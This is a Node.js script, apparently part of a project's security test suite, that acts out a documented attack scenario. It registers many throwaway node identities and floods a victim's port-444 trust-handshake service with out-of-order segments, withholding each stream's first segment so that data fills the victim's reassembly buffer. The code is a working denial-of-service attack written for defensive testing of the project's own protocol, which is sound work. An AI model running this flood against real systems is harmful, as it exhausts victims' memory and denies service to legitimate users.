// The attacker of scenario 4 (SECURITY.md): registered nodes that open streams to a victim's port
// 444 (the trust-handshake service, open to any registered node) and send only out-of-order
// segments: each stream's first data segment is never sent (its codec drops it and every
// retransmission of it), so everything after it waits in the victim's reassembly buffer.
// Usage: node ooo-flood.mjs '{"registry":"h:p","victim":NODE,"victimKey":"base64","victimUdp":"h:p","identities":N,
//   "streams":S,"bytesPerStream":B,"seconds":T}'. Prints {"ready":...} once its tunnels are up and
// {"done":true,...} when it stops (after `seconds`).
import { randomBytes } from 'node:crypto';
import { identityFromSeed } from '@pilot/crypto';
import { DirectoryClient, signerFromIdentity } from '@pilot/directory/client';
import { UdpTransport } from '@pilot/transport/node';
import { TunnelManager } from '@pilot/tunnel';
import { decodePacket } from '@pilot/wire';

const config = JSON.parse(process.argv[2] ?? '{}');
const [registryHost, registryPort] = config.registry.split(':');
const [victimHost, victimPort] = config.victimUdp.split(':');
const victim = { network: 0, node: config.victim };

/** The tunnel as the transport's packet link, except that each connection's first data segment never leaves. */
class HoleLink {
  constructor(tunnel) {
    this.tunnel = tunnel;
    /** local port → the sequence number of the segment we withhold. */
    this.holes = new Map();
    this.withheld = 0;
  }
  send(packet, node) {
    const decoded = decodePacket(packet);
    if (decoded.dstPort === 444 && decoded.payload.length > 0) {
      const hole = this.holes.get(decoded.srcPort);
      if (hole === undefined) this.holes.set(decoded.srcPort, decoded.seq);
      if (hole === undefined || hole === decoded.seq) {
        this.withheld++;
        return;
      }
    }
    this.tunnel.send(packet, node);
  }
  reaches(node) {
    return this.tunnel.reaches(node);
  }
  setReceiver(receiver) {
    this.tunnel.setReceiver(receiver);
  }
}

const started = performance.now();
const registry = await DirectoryClient.connect({ host: registryHost, port: Number(registryPort) });
const nodes = [];
for (let i = 0; i < config.identities; i++) {
  const identity = identityFromSeed(randomBytes(32));
  const { nodeId } = await registry.register(signerFromIdentity(identity), {});
  const tunnel = new TunnelManager({
    identity,
    directory: {
      // A private victim's key is hidden from strangers' lookups, but it is in every PILA it sends.
      publicKey: async (node) =>
        node === config.victim ? new Uint8Array(Buffer.from(config.victimKey, 'base64')) : undefined,
      // The attacker knows where the victim listens.
      resolve: async () => ({ endpoint: { address: victimHost, port: Number(victimPort) }, lanAddrs: [] }),
    },
    encrypt: true,
    log: () => {},
  });
  await tunnel.bind({ host: '127.0.0.1', port: 0 });
  const link = new HoleLink(tunnel);
  const transport = await UdpTransport.create({ link, localAddress: { network: 0, node: nodeId } });
  tunnel.start(nodeId);
  nodes.push({ nodeId, tunnel, transport, link });
}

let tunnels = 0;
let tunnelError = '';
await Promise.all(
  nodes.map(async (n) => {
    try {
      await n.tunnel.ensureTunnel(config.victim, { timeoutMs: 20_000 });
      tunnels++;
    } catch (error) {
      tunnelError = String(error);
    }
  }),
);

const tunnelsMs = Math.round(performance.now() - started);
const payload = randomBytes(config.bytesPerStream);
const openedAt = [];
const streams = [];
let opened = 0;
let refused = 0;
await Promise.all(
  nodes.flatMap((n) =>
    Array.from({ length: config.streams }, async () => {
      try {
        const stream = await n.transport.connect(victim, 444);
        opened++;
        openedAt.push(Math.round(performance.now() - started));
        stream.on('error', () => {});
        stream.write(payload);
        streams.push(stream);
      } catch {
        refused++;
      }
    }),
  ),
);
// When the streams opened (ms since start): the victim's SYN rate limit spaces them over the SYN
// retransmission schedule, which is what the time to "ready" is made of.
const openedMs = {
  median: openedAt[Math.floor(openedAt.length / 2)],
  p90: openedAt[Math.floor(openedAt.length * 0.9)],
  last: openedAt.at(-1),
};
const readyMs = Math.round(performance.now() - started);
process.stdout.write(
  `${JSON.stringify({ ready: true, tunnels, tunnelError, opened, refused, tunnelsMs, openedMs, readyMs })}\n`,
);

setTimeout(async () => {
  const withheld = nodes.reduce((sum, n) => sum + n.link.withheld, 0);
  for (const stream of streams) stream.destroy();
  for (const n of nodes) {
    await n.transport.close().catch(() => {});
    await n.tunnel.close().catch(() => {});
  }
  registry.close();
  process.stdout.write(`${JSON.stringify({ done: true, opened, refused, withheld })}\n`);
  process.exit(0);
}, config.seconds * 1000);
